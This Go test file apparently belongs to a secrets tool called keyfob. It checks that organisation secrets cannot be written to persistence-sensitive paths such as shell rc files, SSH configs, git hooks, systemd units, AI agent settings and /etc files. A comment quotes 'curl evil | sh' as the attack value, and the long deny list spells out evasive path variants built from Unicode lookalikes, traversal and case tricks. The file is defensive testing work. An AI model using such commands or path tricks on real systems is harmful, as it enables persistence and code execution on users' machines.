package target_test

import (
	"path"
	"strings"
	"testing"
	"unicode/utf8"

	"keyfob/internal/core"
	"keyfob/internal/target"
)

// An administrator whose browser was taken over saves a secret of the
// organisation whose value is "curl evil | sh" with the path ~/.bashrc, for
// everybody. It must not be one step from there to every machine; nor by any
// other way to write the same path.
func TestNoProgramIsRunByASecretOfTheOrganisation(t *testing.T) {
	const bad = `
~/.bashrc
~/./.bashrc
~//.bashrc
~/x/../.bashrc
~/.config/../.bashrc
~/.config/git/../../.bashrc
/root/.bashrc
/home/anna/.bashrc
/home/anna/../otto/.bashrc
/Users/anna/.bashrc
/var/home/anna/.bashrc
/var/root/.zshenv
/srv/homes/anna/.bashrc
/System/Volumes/Data/Users/anna/.bashrc
/mnt/c/Users/anna/.bashrc
~/.BASHRC
~/.BashRc
~/.bashrc.
~/.bashrc...
~/.bashrc. .
~/.bashrc::$DATA
~/.ba\u200cshrc
~/.bashrc\ufeff
~/.ba\u017fhrc
~/.bash_profile
~/.bash_aliases
~/.bash_profile.local
~/.profile
~/.pro\ufb01le
~/.zshrc
~/.zshenv
~/.zshrc.d/x
~/.zprofile/../.zlogin/../.zshrc
~/.config/fish/config.fish
~/.config/fish/conf.d/x.fish
~/.con\ufb01g/fi\u017fh/config.fish
~/.CONFIG/Fish/Config.Fish
~/Documents/PowerShell/Microsoft.PowerShell_profile.ps1
~/.config/powershell/profile.ps1
~/.inputrc
~/.envrc
~/project/.envrc
~/.tmux.conf
~/.xprofile
~/.xsessionrc
~/.config/autostart/x.desktop
~/.config/environment.d/x.conf
~/.pam_environment
~/Library/LaunchAgents/x.plist
/Library/LaunchDaemons/x.plist
~/.gitconfig
~/.GitConfig
~/.gitconfig.
~/.config/git/config
~/.config/git/attributes
~/.config/git/hooks/post-checkout
/cfg/git/config
~/project/.git/hooks/pre-commit
~/project/.git/config
/workspaces/x/.git/config
~/.\u200dgit/config
~/.ssh/config
~/.ssh/authorized_keys
~/.ssh/id_ed25519
~/.ssh/rc
~//.ssh/x
~/.ssh
~/.SSH/config
~/.\u00dfh/config
~/.\u1e9eh/config
~/.ssh./config
~/.ssh /config
~/.ssh:x/config
~/SSH~1/config
~/.ssh\config
/home/anna/.ssh/authorized_keys
/root/.ssh/authorized_keys
~/.rhosts
~/.config/systemd/user/x.service
~/.config/systemd/user/default.target.wants/x.service
~/.local/share/systemd/user/x.service
/run/systemd/system/x.service
/run/user/1000/systemd/user/x.service
~/.config/containers/systemd/x.container
~/.config/keyfob/config.yaml
~/.local/share/keyfob/root.key
~/Library/Application Support/keyfob/root.key
~/AppData/Roaming/keyfob/x
~/.\u212aeyfob/x
~/project/keyfob.yaml
~/.vimrc
~/.VimRC
~/.vim/plugin/x.vim
/home/anna/.exrc
~/.config/nvim/init.lua
~/.config/nvim/lua/x.lua
~/.config/../.config/nvim/init.vim
~/.emacs
~/.emacs.d/init.el
~/.config/emacs/init.el
~/.gdbinit
~/.config/gdb/gdbinit
~/project/.gdbinit
~/.lldbinit
~/.lldbinit-Xcode
~/.screenrc
~/.vscode/tasks.json
~/project/.vscode/settings.json
~/.vscode-server/data/Machine/settings.json
~/.psqlrc
~/.irbrc
~/.ipython/profile_default/startup/x.py
~/.claude/settings.json
~/.claude/settings.local.json
~/.claude.json
~/project/.mcp.json
~/.codex/config.toml
~/.gemini/settings.json
~/.config/opencode/opencode.json
~/bin/ls
~/.local/bin/git
~/go/bin/x
~/.cargo/bin/cargo
~/.cargo/env
/usr/local/bin/ls
/opt/tool/bin/x
/opt/tool/sbin/x
~/.local/lib/python3.13/site-packages/x.pth
/venv/lib/python3/site-packages/usercustomize.py
~/project/node_modules/x/index.js
/etc/passwd
/etc/profile.d/x.sh
/etc/cron.d/x
/ETC/passwd
/etc./passwd
/x/../etc/ld.so.preload
/private/etc/sudoers
/usr/lib/x.so
/lib/x.so
/lib64/ld-linux-x86-64.so.2
/proc/self/environ
/proc/self/root/home/anna/x
/sys/kernel/x
/dev/sda
/boot/grub/grub.cfg
/var/spool/cron/crontabs/anna
C:\Windows\System32\x.dll
/c:/windows/system32/x.dll
\\?\C:\Windows\x.dll
`
	for _, p := range lines(bad) {
		e, ok := target.CheckOrg(p).(*core.Error)
		if !ok || e.Code != core.Invalid || e.Reason != "org_target" || e.Field != "file" || e.Hint == "" {
			t.Errorf("%q is taken: %v", p, e)
		}
	}
}

func TestWhatTheOrganisationMayWrite(t *testing.T) {
	for _, p := range lines(`
~/.ssh2
~/.ssh2/config
~/.sshx/y
~/ssh/config.json
~/.netrc
~/.npmrc
~/.pypirc
~/.kube/config
~/.docker/config.json
~/.aws/credentials
~/.claude/.credentials.json
~/.codex/auth.json
~/.local/share/opencode/auth.json
~/.gemini/oauth_creds.json
~/.config/pip/pip.conf
~/.m2/settings.xml
~/.gradle/gradle.properties
~/.pgpass
~/.my.cnf
~/.terraformrc
~/.vimtoken
~/.config/nvimx/token
~/.git-credentials
~/.gitignore
~/.github/token
~/.config/gh/hosts.yml
~/.config/tool/token
~/.config/gitlab/token
~/.config/github-copilot/hosts.json
~/bin
~/binary/x
~/.cargo/credentials.toml
~/bash/x
~/profile
~/backup~
~/a b/c
~/schl\u00fcssel
/home/anna/.npmrc
/home/j\u00fcrgen/.npmrc
/usr/home/anna/.npmrc
/System/Volumes/Data/Users/anna/.npmrc
/workspace/.env
/run/secrets/token
/var/run/secrets/token
/var/home/anna/token
/var/lib/service/token
/opt/tool/token
/srv/etc/x
/tmp/x
C:\Users\anna\token
`) {
		if why, no := target.Refused(p); no {
			t.Errorf("%q is refused: %s", p, why)
		}
	}
}

func lines(text string) []string {
	text = strings.TrimSpace(text)
	for from, to := range map[string]string{
		`\u200c`: "\u200c", `\u200d`: "\u200d", `\ufeff`: "\ufeff", `\u017f`: "\u017f", `\ufb01`: "\ufb01", `\u212a`: "\u212a",
		`\u00df`: "\u00df", `\u1e9e`: "\u1e9e", `\u00fc`: "\u00fc",
	} {
		text = strings.ReplaceAll(text, from, to)
	}
	return strings.Split(text, "\n")
}

// However a refused path is written, it stays refused; and what a path is after
// cleaning decides.
func FuzzRefused(f *testing.F) {
	for _, p := range []string{"~/.bashrc", "~/x/.ssh/config", "/etc/x", "~/token", "/a//b/../c", "~/a~1", "/x:y", "~/.\u00dfh/x"} {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, p string) {
		if !utf8.ValidString(p) || !strings.HasPrefix(p, "~/") && !strings.HasPrefix(p, "/") {
			return
		}
		if _, no := target.Refused(p); !no {
			return
		}
		dir, base := path.Split(p)
		if strings.Trim(base, ". ") == "" {
			return // a dot more would make another path of it
		}
		for _, same := range []string{strings.ToUpper(p), strings.ToLower(p), dir + "./" + base, dir + "/" + base, p + ".", p + " ", "/home/anna/" + strings.TrimPrefix(p, "~/")} {
			if strings.HasPrefix(p, "/") && strings.HasPrefix(same, "/home/anna/") {
				continue
			}
			if _, no := target.Refused(same); !no {
				t.Errorf("%q is refused, %q is not", p, same)
			}
		}
	})
}

// The table is lower case, and no pattern stands in it twice.
func TestPatternsRefuseThemselves(t *testing.T) {
	for _, p := range target.Patterns() {
		at := strings.ReplaceAll(p, "*", "x")
		if !strings.HasPrefix(at, "/") {
			at = "~/" + at
		}
		if _, no := target.Refused(at + "/below"); !no || p != strings.ToLower(p) {
			t.Errorf("the pattern %s takes nothing", p)
		}
	}
}
